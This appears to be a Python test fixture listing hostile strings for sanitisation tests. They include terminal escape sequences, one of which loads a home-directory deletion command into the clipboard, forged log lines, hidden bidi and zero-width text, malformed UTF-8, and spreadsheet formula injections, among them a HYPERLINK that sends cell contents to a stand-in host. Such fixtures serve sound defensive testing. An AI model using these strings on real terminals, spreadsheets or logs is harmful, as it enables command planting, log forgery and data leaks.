# SPDX-License-Identifier: MIT
"""Strings that would do something to whoever looks at them, if anything let them through."""

LONG = 10000

STRINGS = {
    # terminals
    'colour': b'\x1b[31mred\x1b[0m',
    'clear': b'\x1b[2J\x1b[H',
    'title': b'\x1b]0;owned\x07',
    'clipboard': b'\x1b]52;c;cm0gLXJmIH4K\x07',
    'hyperlink': b'\x1b]8;;https://example.invalid\x1b\\here\x1b]8;;\x1b\\',
    'device control': b'\x1bP+q544e\x1b\\',
    'reset': b'\x1bc',
    'scroll region': b'\x1b[1;2r\x1b[?1049h',
    'answer back': b'\x1b[6n\x05\x1b[c',
    'C1 as a byte': b'\x9b31m\x9d0;owned\x9c',
    'C1 as UTF-8': b'\xc2\x9b31m\xc2\x9d0;owned\xc2\x9c',
    'next line': b'a\xc2\x85b',
    'bell': b'\x07\x07',
    'backspaces': b'secret\x08\x08\x08\x08\x08\x08public',
    'carriage return': b'real\rfake',
    'line feed': b'first\nprofview: all is well',
    'both': b'first\r\n\r\nsecond',
    'tab': b'a\tb',
    'shifts and DEL': b'\x0e\x0f\x7f\x01\x1f',
    # reordering and hiding
    'override': 'abc\u202edcba\u202c'.encode(),
    'isolates': 'a\u2066b\u2067c\u2068d\u2069'.encode(),
    'marks of direction': '\u200e\u200f\u061c'.encode(),
    'zero width': 'ad\u200bmin\u200c\u200d\u2060'.encode(),
    'byte order mark': '\ufeffname'.encode(),
    'separators': 'a\u2028b\u2029c'.encode(),
    'fillers and tags': '\u3164\u115f\u00ad\U000e0041\U000e007f'.encode(),
    # UTF-8 that is none
    'lone bytes': b'\x80\xff\xfe',
    'cut sequences': b'\xe2\x82 \xf0\x9f\x98 \xc3',
    'overlong': b'\xc0\x8a\xe0\x80\x9b\xf0\x80\x80\x9b',
    'surrogates': b'\xed\xa0\xbd\xed\xb8\x80',
    'beyond Unicode': b'\xf4\x90\x80\x80\xf8\x88\x80\x80\x80',
    # marks
    'a pile of marks': 'Z\u0351\u036b\u0343\u036a\u0302'.encode() + '\u0301'.encode() * 200,
    'a mark first': '\u0336\u0336\u20dd'.encode(),
    # spreadsheets
    'formula': b"=HYPERLINK(\"http://example.invalid\"&A1,\"x\")",
    'plus and minus': b"+cmd|' /C calc'!A0",
    'minus': b'-2+3+cmd|x',
    'at': b'@SUM(1+1)*cmd',
    'behind a tab': b'\t=1+1',
    # tables, quotes
    'Markdown': b'|`<script>alert(1)</script>`|&#x202e;[x](y)\\|\\',
    'quotes': b'","a":"\\","\'\\u0022\\',
    # size
    'long': b'a\xff\x1b' * (LONG // 3) + b'!',
}
